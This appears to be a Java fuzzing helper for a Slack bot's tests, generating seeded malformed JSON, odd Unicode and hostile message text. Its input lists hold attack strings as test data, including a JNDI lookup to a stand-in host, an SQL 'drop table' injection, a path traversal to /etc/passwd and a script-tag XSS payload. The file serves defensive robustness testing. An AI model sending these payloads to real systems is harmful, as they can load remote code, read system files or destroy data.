package dev.parley.slack;

import com.google.gson.JsonArray;
import com.google.gson.JsonElement;
import com.google.gson.JsonNull;
import com.google.gson.JsonObject;
import com.google.gson.JsonPrimitive;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/** What somebody who means harm could send, or a Slack of years to come; the same for the same seed. */
final class HostileInputs {

    /** The longest text that Slack takes in a message by its documentation, thrice. */
    private static final int LONG = 12_000;

    private static final List<String> PINGS = List.of("<!channel>", "<!here>", "<!everyone>",
            "<!subteam^S0ALL|@all>", "<@U0ALICE>", "<@" + FakeSlack.BOT_USER + ">", "&lt;!channel&gt;",
            "&amp;lt;!here&amp;gt;", "<<!channel>>", "<!date^1392734382^{date}|<!channel>>", "@channel",
            "<#C0TALKS|<!here>>", "<https://evil.example|<!everyone>>");

    private static final List<String> PIECES = List.of("", " ", "\n", "\0", "\u0007\b\u001b[31m\u007f\u0085",
            "\u202e\u202d\u200f\u200e\u2066\u2069\u061c", "\ufeff\u200b\u2060", "\ud800", "\udfff",
            "\udc00\ud800",
            "\uffff", "*bold* _italic_ ~struck~ `code` ```block``` > quote", "’); drop table answer; --",
            "${jndi:ldap://evil.example/a}", "%s%n%x {} {0}", "../../etc/passwd",
            "</script><script>alert(1)</script>",
            "{\"type\":\"event_callback\"}", "&payload=%7B%7D&", "\u201cnuclear\u201d «talks» \"", "did say",
            "Did Lavrov say \"",
            "said Lavrov about", "didsay Lavrov:", "didsay <!channel>: <@U0ALICE>", "sources", "settings",
            "hepl",
            "saidd", "according to", "before 31 February", "since 99999999999999999999",
            "in the last 2147483648 days",
            "search all dates", "Kerry", "Lavrov", "terrorists?", "e" + "\u0301".repeat(50), "👩‍👩‍👧🇸🇾𝔘",
            "سوريا شنو", "北京",
            "<", ">", "|", "<|", "&", "&amp;", "\\u0000", "\\", "?".repeat(80), "A".repeat(300));

    private static final List<String> VALUES = List.of("1", "-1", "1e999", "0.1", "true", "null", "[]", "{}",
            "\"\"",
            "\"\\u0000\"", "\"<!channel>\"", "9223372036854775808", "[null]", "[[[[[[[[]]]]]]]]",
            "{\"id\":{\"id\":[]}}",
            "\"T0OTHER\"", "\"\\ud800\"");

    private static final List<String> BODIES = List.of("", " ", "{", "}", "[", "null", "true", "0", "\"",
            "{}", "[]",
            "a=b", "=", "&&&", "payload=", "payload=%", "payload=%7B", "payload=null", "payload=%5B%5D", "%",
            "%zz=1",
            "command=%2Ftalks", "{\"type\":null}", "{\"type\":1}", "{\"type\":[]}", "{\"type\":{}}",
            "{\"type\":\"unknown\"}", "{\"type\":\"event_callback\"}",
            "{\"type\":\"event_callback\",\"event\":null}",
            "{\"type\":\"event_callback\",\"event\":[]}", "{\"type\":\"event_callback\",\"event\":{}}",
            "{\"type\":\"event_callback\",\"event\":{\"type\":\"app_mention\"}}",
            "{\"type\":\"url_verification\"}",
            "{\"type\":\"url_verification\",\"challenge\":{}}",
            "{\"type\":\"block_actions\",\"actions\":null}",
            "{\"type\":\"app_rate_limited\"}", "{\"type\":\"hello\"", "{\"envelope_id\":1}", "ssl_check=1",
            "{\"type\":\"events_api\",\"payload\":null}", "{\"type\":\"events_api\",\"envelope_id\":\"e\"}",
            "{\"type\":\"interactive\",\"payload\":[],\"envelope_id\":{}}",
            "{\"type\":\"slash_commands\",\"payload\":{\"command\":[]},\"envelope_id\":\"e\"}");

    private final Random random;

    HostileInputs(long seed) {
        random = new Random(seed);
    }

    /** True with this chance. */
    boolean happens(double chance) {
        return random.nextDouble() < chance;
    }

    int below(int bound) {
        return random.nextInt(bound);
    }

    <T> T oneOf(List<T> all) {
        return all.get(random.nextInt(all.size()));
    }

    /** What a person could type, and more. */
    String text() {
        if (happens(0.03)) {
            return long12();
        }
        return IntStream.range(0, random.nextInt(6))
                .mapToObj(piece -> happens(0.3) ? oneOf(PINGS) : oneOf(PIECES))
                .collect(Collectors.joining(happens(0.5) ? " " : ""));
    }

    private String long12() {
        String piece = oneOf(
                List.of("<", "&lt;", "a", "word ", "\u202e", "<!here> ", "? ", "\u201c", "|", "\ud83d\ude80",
                        "said Kerry and ", "\n", "\0", "[", "did "));
        return piece.repeat(LONG / piece.length() + 1).substring(0, LONG);
    }

    /** A body that is none of Slack's. */
    String body() {
        return switch (random.nextInt(5)) {
            case 0 -> text();
            case 1 -> nested(oneOf(List.of("[", "{\"a\":", "{\"event\":")), 1 + random.nextInt(30_000));
            case 2 -> "{\"type\":\"event_callback\",\"event\":" + nested("[", random.nextInt(3_000));
            default -> oneOf(BODIES);
        };
    }

    private static String nested(String opening, int depth) {
        return opening.repeat(depth);
    }

    /** The first part of it, or with a character put in. */
    String broken(String json) {
        int at = random.nextInt(json.length());
        return happens(0.5)
                ? json.substring(0, at)
                : json.substring(0, at) + oneOf(List.of("\"", "{", "}", ",", "\0", "\\", "9"))
                        + json.substring(at);
    }

    /** With some values taken out, put in, or of another type. */
    JsonObject changed(JsonObject payload) {
        JsonObject changed = payload.deepCopy();
        for (int times = 1 + random.nextInt(3); times > 0; times--) {
            change(changed);
        }
        return changed;
    }

    private void change(JsonObject root) {
        JsonObject object = root;
        while (true) {
            List<JsonObject> inside = inside(object);
            if (inside.isEmpty() || happens(0.4)) {
                break;
            }
            object = oneOf(inside);
        }
        List<String> names = new ArrayList<>(object.keySet());
        String name = names.isEmpty() || happens(0.1) ? "unheard_of" : oneOf(names);
        if (happens(0.3)) {
            object.remove(name);
        } else {
            object.add(name, value());
        }
    }

    private static List<JsonObject> inside(JsonObject object) {
        List<JsonObject> inside = new ArrayList<>();
        for (Map.Entry<String, JsonElement> field : object.entrySet()) {
            if (field.getValue() instanceof JsonObject nested) {
                inside.add(nested);
            } else if (field.getValue() instanceof JsonArray array) {
                array.forEach(one -> {
                    if (one instanceof JsonObject nested) {
                        inside.add(nested);
                    }
                });
            }
        }
        return inside;
    }

    private JsonElement value() {
        return switch (random.nextInt(4)) {
            case 0 -> JsonNull.INSTANCE;
            case 1 -> new JsonPrimitive(text());
            case 2 -> deep(random.nextInt(200));
            default -> com.google.gson.JsonParser.parseString(oneOf(VALUES));
        };
    }

    private static JsonElement deep(int depth) {
        JsonElement deep = new JsonArray();
        for (int i = 0; i < depth; i++) {
            JsonArray around = new JsonArray();
            around.add(deep);
            deep = around;
        }
        return deep;
    }

    /** JSON in which all that is not of ASCII is escaped, as Slack does, so that half a pair of surrogates arrives as such. */
    static String ascii(JsonObject payload) {
        return payload.toString().chars()
                .mapToObj(c -> c < 127 ? String.valueOf((char) c) : "\\u%04x".formatted(c))
                .collect(Collectors.joining());
    }
}
